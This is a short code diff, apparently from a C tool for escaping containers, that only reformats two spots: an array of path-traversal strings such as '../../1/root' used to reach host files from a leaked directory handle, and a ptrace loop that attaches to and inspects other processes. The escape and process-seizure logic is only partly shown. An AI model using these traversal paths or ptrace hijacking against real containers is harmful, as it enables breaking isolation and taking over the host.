@@ -43,8 +43,8 @@ static uint64_t capabilities(int pid) {
 
 // A directory of the host's files, or of its procfs, leads to all of them.
 static void climb(int directory, const char *file) {
-    static const char *const ways[] = {
-        "..", "../..", "../../1/root", "../1/root", "1/root", "../../../../../../../../.."};
+    static const char *const ways[] = {"..",        "../..",  "../../1/root",
+                                       "../1/root", "1/root", "../../../../../../../../.."};
     for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
         char path[2 * PATH];
         snprintf(path, sizeof path, "%s%s", ways[i], file);
@@ -97,7 +97,8 @@ _Noreturn static void seize(uint64_t allowed, const char *file) {
             inspect(pid, allowed, file);
             ptrace(PTRACE_DETACH, pid, 0, 0);
         }
-        while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {}
+        while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {
+        }
         // Somebody may have been given a pid and lost it while nobody looked: follow the counter.
         char text[32] = "";
         int counter = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
